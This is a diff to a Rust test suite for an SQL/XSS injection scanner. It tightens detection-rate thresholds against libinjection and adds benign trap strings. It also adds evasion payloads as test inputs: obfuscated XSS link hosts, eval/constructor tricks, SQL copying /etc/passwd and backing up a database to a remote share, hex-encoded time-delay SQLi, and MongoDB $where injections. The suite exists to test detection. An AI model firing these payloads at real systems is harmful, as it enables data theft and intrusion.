@@ -74,11 +74,10 @@ fn corpora_detection_and_false_positive_rates() {
             println!("FP {l}  {ids:?}");
         }
     }
-    // Floors just under the measured rates (99.10% / 98.50% / 0.39%);
-    // libinjection scores 94.92% / 92.95% / 3.59% on the same files. The
-    // 99% detection target is not reached for XSS on these files.
-    assert!(sr >= 99.0, "sqli detection {sr}");
-    assert!(xr >= 98.3, "xss detection {xr}");
+    // Floors just under the measured rates (99.18% / 99.34% / 0.38%);
+    // libinjection scores 95.01% / 93.23% / 3.59% on the same files.
+    assert!(sr >= 99.1, "sqli detection {sr}");
+    assert!(xr >= 99.2, "xss detection {xr}");
     assert!(br <= 0.5, "false positives {br}");
 }
 
@@ -91,9 +90,9 @@ fn tuning_and_holdout_halves() {
         let (_, xr) = rate(&half("xss.txt", even));
         let (_, br) = rate(&half("benign.txt", even));
         println!("{label}: sqli {sr:.2}%  xss {xr:.2}%  false positives {br:.2}%");
-        // Measured: even 99.34/98.68/0.26, odd 98.85/98.31/0.51.
-        assert!(sr >= 98.7, "{label} sqli detection {sr}");
-        assert!(xr >= 98.1, "{label} xss detection {xr}");
+        // Measured: even 99.43/99.62/0.26, odd 98.94/99.06/0.51.
+        assert!(sr >= 98.8, "{label} sqli detection {sr}");
+        assert!(xr >= 99.0, "{label} xss detection {xr}");
         assert!(br <= 0.6, "{label} false positives {br}");
     }
 }
@@ -190,6 +189,15 @@ fn benign_traps_pass() {
         "C#\nnext line about F#\nand more",
         "caf\u{e9}'s menu and na\u{ef}ve \"quotes\"",
         "the level (alert) is high",
+        "<a href=\"http://192.168.1.1/\">router</a>",
+        "<a href=\"http://[::1]:8080/\">local</a>",
+        "<a href=\"https://example.com:443/a\">x</a>",
+        "<a href=\"https://web.archive.org/web/2020/https://example.com/\">old</a>",
+        "eval.calls = 3",
+        "copy the file from '/tmp' to your desk",
+        "The wallet 0x742d35Cc6634C0532925a3b844Bc454e4438f44e received funds",
+        "db.users is the collection name",
+        "He said \\\"hi\\\" and left",
     ];
     let s = ThreatScanner::default();
     for t in traps {
@@ -355,6 +363,26 @@ fn known_evasions_are_detected() {
         "(alert)(1)",
         "[1].find(alert)",
         "<xml:namespace prefix=\"t\">",
+        // Disguised link hosts (XSS cheat sheet URL obfuscation).
+        "<A HREF=\"http://1113982867/\">XSS</A>",
+        "<A HREF=\"http://0x42.0x0000066.0x7.0x93/\">XSS</A>",
+        "<A HREF=\"http://0102.0146.0007.00000223/\">XSS</A>",
+        "<A HREF=\"htt\tp://6\t6.000146.0x7.147/\">XSS</A>",
+        "<A HREF=\"http://google:ha.ckers.org\">XSS</A>",
+        "<A HREF=\"http://ha.ckers.org@google\">XSS</A>",
+        "<A HREF=\"http://www.gohttp://www.google.com/ogle.com/\">XSS</A>",
+        "[].constructor.constructor(\"alert\" + \"(1)\")()",
+        "eval.call(this,unescape.call(this,location))",
+        "data: , <x>",
+        // Statements on server files, hex-encoded SQL, escaped quotes.
+        "copy myfile from '/etc/passwd';",
+        "BACKUP database master to disk='\\\\1.2.3.4\\x\\backupdb.dat'",
+        "0x77616974666F722064656C61792027303A303A313027",
+        "0x730065006c0065006300740020004000400076006500",
+        "\\'; desc users; --",
+        // MongoDB $where JavaScript and shell calls.
+        "' && this.password.match(/.*/)//+%00",
+        "db.injection.insert({success:1});",
     ];
     for e in evasions {
         assert!(
